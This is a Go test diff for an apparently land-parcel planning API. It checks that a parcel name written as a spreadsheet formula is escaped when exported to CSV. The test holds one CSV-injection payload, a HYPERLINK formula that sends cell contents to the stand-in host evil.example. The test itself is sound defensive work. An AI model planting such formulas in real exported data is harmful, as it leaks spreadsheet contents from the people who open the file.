@@ -10,6 +10,7 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 )
 
 type runAnswer struct {
@@ -277,5 +278,38 @@ func TestPublicRunHidesParcelsThatBecameInternal(t *testing.T) {
 	a.get(runPath, a.planner, &planner)
 	if planner.Parcels != 7 {
 		t.Errorf("a planner reading the public run sees %d parcels, want the same 7 as the public", planner.Parcels)
+	}
+}
+
+// A parcel named like a spreadsheet formula reaches the public run's CSV tables inert.
+func TestRunTablesAreSafeInASpreadsheet(t *testing.T) {
+	a := newAPI(t)
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	if _, err := a.db.Pool.Exec(context.Background(), `UPDATE parcels SET name = $2 WHERE id = $1`, a.fix.Parcels["A"], formula); err != nil {
+		t.Fatal(err)
+	}
+	params := map[string]any{"title": "öffentlich", "audience": "public", "as_of": time.Now().Format(time.DateOnly),
+		"search": map[string]any{"criteria": map[string]any{"min_net_ha": 0.1}}}
+	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, params)
+	if code != http.StatusCreated {
+		t.Fatalf("create public run: %d %s", code, body)
+	}
+	var run runAnswer
+	if err := json.Unmarshal(body, &run); err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, table := range []string{"search", "parcels"} {
+		for _, row := range a.csvTable("/api/v1/study/runs/"+itoa(run.ID)+"/tables/"+table+".csv", "") {
+			for _, cell := range row {
+				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
+					t.Errorf("%s.csv has the cell %q, which a spreadsheet runs as a formula", table, cell)
+				}
+				found = found || cell == "'"+formula
+			}
+		}
+	}
+	if !found {
+		t.Error("the parcel's name is in no table, escaped as '=HYPERLINK(...)")
 	}
 }
